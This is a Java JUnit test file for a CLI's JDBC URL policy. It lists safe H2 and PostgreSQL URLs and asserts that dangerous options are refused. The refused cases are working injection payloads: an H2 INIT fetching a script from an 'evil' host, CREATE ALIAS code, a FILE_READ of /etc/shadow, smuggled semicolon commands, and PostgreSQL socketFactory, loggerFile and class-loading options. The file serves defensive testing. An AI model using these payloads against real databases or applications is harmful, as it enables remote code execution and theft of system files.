package dev.pat4j.cli.internal;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/** The URL matrix: what an H2 or PostgreSQL URL may carry, and what is refused with a message naming the option. */
class JdbcUrlPolicyTest {

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:h2:file:/srv/app/pat-data/pat",
        "jdbc:h2:file:/srv/app/pat-data/pat;AUTO_SERVER=TRUE",
        "jdbc:h2:./data/x;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;LOCK_TIMEOUT=10000",
        "jdbc:h2:tcp://127.0.0.1:9092/~/app;USER=sa;PASSWORD=p@ss word!",
        "jdbc:h2:file:/x;;ifexists=true;", // empty parts are skipped, as H2 does; keys are matched in any case
        "jdbc:postgresql://127.0.0.1:5432/app",
        "jdbc:postgresql://db/app?sslmode=verify-full&sslrootcert=/etc/ssl/db.pem&ApplicationName=pat",
        "jdbc:postgresql://db/app?user=a&password=b&connectTimeout=5&options=-c%20search_path%3Dpat",
        "jdbc:mysql://db/app?socketFactory=x" // not a driver the CLI ships: left to it
    })
    void accepted(String url) {
        assertThatCode(() -> JdbcUrlPolicy.check(url, "--db")).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:h2:mem:x;INIT=CREATE ALIAS X AS 'String x() { return \"\"; }'",
        "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;MODE=PostgreSQL;Init=SELECT 1",
        "jdbc:h2:mem:x;\u0131nit=SELECT 1", // dotless i: H2 upper-cases it to INIT
        "jdbc:h2:mem:x; INIT=SELECT 1",
        "jdbc:h2:mem:x;INIT =SELECT 1",
        "jdbc:h2:mem:x;IGNORE_UNKNOWN_SETTINGS=TRUE;INIT=SELECT 1",
        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=com.evil.Listener",
        "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER=com.evil.Serializer",
        "jdbc:h2:mem:x;AUTHENTICATOR=com.evil.Authenticator",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
        "jdbc:h2:mem:x;DEFRAG_ALWAYS=TRUE",
        "jdbc:h2:mem:x;MODE",
        "jdbc:h2:tcp://attacker/db;INIT=SELECT 1"
    })
    void h2OptionsOffTheListAreRefused(String url) {
        assertThatThrownBy(() -> JdbcUrlPolicy.check(url, "--db")).isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("--db: the H2 option '").hasMessageContaining("is refused")
                .hasMessageNotContaining("SELECT").hasMessageNotContaining("com.evil");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:h2:mem:x;LOCK_TIMEOUT=1\\;CREATE ALIAS X AS 'String x() { return null; }'",
        "jdbc:h2:mem:x;CACHE_SIZE=(SELECT LENGTH(FILE_READ('/etc/shadow')))",
        "jdbc:h2:mem:x;MODE=Regular CREATE TABLE t(x INT)",
        "jdbc:h2:mem:x;LOCK_TIMEOUT=",
        "jdbc:h2:mem:x;PASSWORD=a\\;INIT=SELECT 1" // H2 would read one PASSWORD; the split sees an INIT and refuses
    })
    void h2ValuesThatH2WouldRunAsSqlAreRefused(String url) {
        assertThatThrownBy(() -> JdbcUrlPolicy.check(url, "$PAT_DB")).isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("$PAT_DB: the ").hasMessageContaining("refused")
                .hasMessageNotContaining("ALIAS").hasMessageNotContaining("shadow").hasMessageNotContaining("CREATE");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:postgresql://db/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
            + "&socketFactoryArg=http://evil/x.xml",
        "jdbc:postgresql://db/app?sslmode=require&sslfactory=com.evil.Factory",
        "jdbc:postgresql://db/app?SSLFACTORY=com.evil.Factory",
        "jdbc:postgresql://db/app?loggerLevel=TRACE&loggerFile=/home/user/.bashrc",
        "jdbc:postgresql://db/app?authenticationPluginClassName=com.evil.Plugin",
        "jdbc:postgresql://db/app?sslhostnameverifier=com.evil.Verifier",
        "jdbc:postgresql://db/app?sslpasswordcallback=com.evil.Callback",
        "jdbc:postgresql://db/app?xmlFactoryFactory=com.evil.Xml",
        "jdbc:postgresql://db/app?%73ocketFactory=com.evil.Factory",
        "jdbc:postgresql://db/app?a=b&%20socketFactory%20=com.evil.Factory"
    })
    void postgresqlOptionsThatLoadClassesOrWriteFilesAreRefused(String url) {
        assertThatThrownBy(() -> JdbcUrlPolicy.check(url, "pat4j.store.url"))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("pat4j.store.url: the PostgreSQL option '").hasMessageContaining("is refused")
                .hasMessageNotContaining("com.evil").hasMessageNotContaining("bashrc");
    }

    @Test
    void theLocationNamesWhereTheRefusedUrlCameFrom() {
        CliContext context = new CliContext(Map.of("PAT_DB", "jdbc:h2:mem:x;INIT=SELECT 1"),
                new ByteArrayInputStream(new byte[0]), Path.of("/srv/app"), (location, create, deadlines) -> {
                    throw new AssertionError("not opened");
                });
        assertThatThrownBy(() -> DatabaseLocation.resolve(null, context)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("$PAT_DB: the H2 option 'INIT' is refused");
        assertThatThrownBy(() -> DatabaseLocation.resolve("jdbc:postgresql://db/x?loggerFile=/tmp/x", context))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("--db: the PostgreSQL option 'loggerFile' is refused");
    }
}
